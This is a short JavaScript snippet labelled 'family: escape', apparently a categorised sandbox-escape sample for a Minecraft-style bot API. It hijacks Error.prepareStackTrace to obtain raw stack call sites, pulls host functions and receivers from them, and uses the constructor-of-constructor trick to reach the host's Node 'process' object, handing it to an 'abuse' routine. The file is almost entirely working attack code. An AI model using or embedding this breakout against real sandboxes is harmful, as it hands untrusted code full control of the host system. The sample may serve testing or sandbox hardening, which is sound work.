// family: escape
// call sites of a stack trace give functions and receivers of the host
function ErrorLike (bot, look) {
  bot.findBlocks({
    matching () {
      const sites = new Error('here').stack
      if (Array.isArray(sites)) sites.forEach(look)
      return false
    },
    maxDistance: 2
  })
}

async function main (bot) {
  Error.prepareStackTrace = (_error, sites) => sites
  ErrorLike(bot, site => {
    for (const thing of [site.getThis(), site.getFunction()]) {
      if (thing) abuse(bot, thing.constructor.constructor('return process')())
    }
  })
}
